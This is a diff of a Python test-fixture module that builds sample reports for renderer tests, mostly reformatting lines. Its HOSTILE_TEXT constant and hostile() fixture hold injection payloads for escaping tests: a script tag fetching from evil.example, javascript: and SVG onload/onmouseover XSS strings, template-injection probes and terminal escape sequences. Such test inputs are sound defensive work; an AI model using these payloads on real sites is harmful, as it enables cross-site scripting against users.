@@ -1,5 +1,7 @@
 """Sample reports for the tests of the renderers: small, made by hand, all cases that differ."""
 
+# ruff: noqa: ANN401, E501 - literals of samples stand one node a line
+
 from dataclasses import dataclass, field, replace
 from datetime import UTC, datetime, timedelta
 from hashlib import sha256
@@ -27,7 +29,7 @@ HOSTILE_NAME = (
 HOSTILE_TEXT = (
     "</style></script><script>fetch('http://evil.example/x')</script>\n"
     "```\n| a | b |\n\x1b]0;title\x07\x1b[2J \u202egnp.exe\ud800\uffff\n=HYPERLINK(1)\n"
-    "<a href=\"javascript:alert(1)\">x</a> {{ 7*7 }} ${7*7} "
+    '<a href="javascript:alert(1)">x</a> {{ 7*7 }} ${7*7} '
 ) + "long" * 2000
 
 
@@ -91,7 +93,9 @@ def _node(item: N, position: int, parent: int, depth: int, path: str) -> Node:
     return Node(**values | item.more)
 
 
-def section(nodes: tuple[Node, ...], position: int, start: float, end: float, **more: Any) -> Section:
+def section(
+    nodes: tuple[Node, ...], position: int, start: float, end: float, **more: Any
+) -> Section:
     """Return a piece of the path."""
     values: dict[str, Any] = {
         "position": position, "node_id": nodes[position].node_id,
@@ -116,7 +120,9 @@ def failure(nodes: tuple[Node, ...], position: int, **more: Any) -> Failure:
 def ref(nodes: tuple[Node, ...], position: int, **more: Any) -> NodeRef:
     """Return a node as a list names it."""
     node = nodes[position]
-    return NodeRef(position=position, node_id=node.node_id, label=node.label, path=node.path, **more)
+    return NodeRef(
+        position=position, node_id=node.node_id, label=node.label, path=node.path, **more
+    )
 
 
 def make(nodes: tuple[Node, ...], outcome: str, sentence: tuple[str, str], **more: Any) -> Report:
@@ -165,7 +171,7 @@ def failed() -> Report:
     """A release that failed in a subprocess of a subprocess, with a skip, a retry and a wait."""
     critical = {"on_critical_path": True, "slack_s": 0.0}
     text = (
-        "Traceback (most recent call last):\n  File \"deploy.py\", line 88, in push\n"
+        'Traceback (most recent call last):\n  File "deploy.py", line 88, in push\n'
         "ConnectionError: host 10.0.3.17 refused port 8443 after 3 tries\n详情 <https://job.example.com/run/881>"
     )
     nodes = lay_out(N(label="生产发布 release-2.4", state="FAILED", end=4210, kind="root", inside=(
@@ -282,8 +288,8 @@ def hostile() -> Report:
     return make(
         nodes, "failed", (f"Failed at {HOSTILE_NAME}", f"失败于 {HOSTILE_NAME}"),
         critical_path=(section(nodes, 1, 0, 4), section(nodes, 2, 4, 9)),
-        task={"task_id": "\"><svg onload=alert(3)>", "site": HOSTILE_NAME},
-        failures=(failure(nodes, 2, links=("https://ok.example/\"onmouseover=alert(1)",)),),
+        task={"task_id": '"><svg onload=alert(3)>', "site": HOSTILE_NAME},
+        failures=(failure(nodes, 2, links=('https://ok.example/"onmouseover=alert(1)',)),),
         task_text=HOSTILE_TEXT,
         notes=(NoteLine(code="unknown-state", node_id=nodes[1].node_id, position=1, text={
             Language.EN: HOSTILE_NAME, Language.ZH: HOSTILE_NAME}),),
@@ -301,7 +307,9 @@ def large(n_subprocesses: int, n_steps: int) -> Report:
               state="FAILED" if bad and s == 1 else "FINISHED")
             for s in range(n_steps)
         )  # fmt: skip
-        groups.append(N(label=f"批次 {g}", kind="subprocess", start=begin, end=begin + n_steps, inside=steps))
+        groups.append(
+            N(label=f"批次 {g}", kind="subprocess", start=begin, end=begin + n_steps, inside=steps)
+        )
     end = n_subprocesses * n_steps
     nodes = lay_out(N(label="大任务", state="FAILED", end=end, kind="root", inside=tuple(groups)))
     found = next(node for node in nodes if node.is_root_cause)
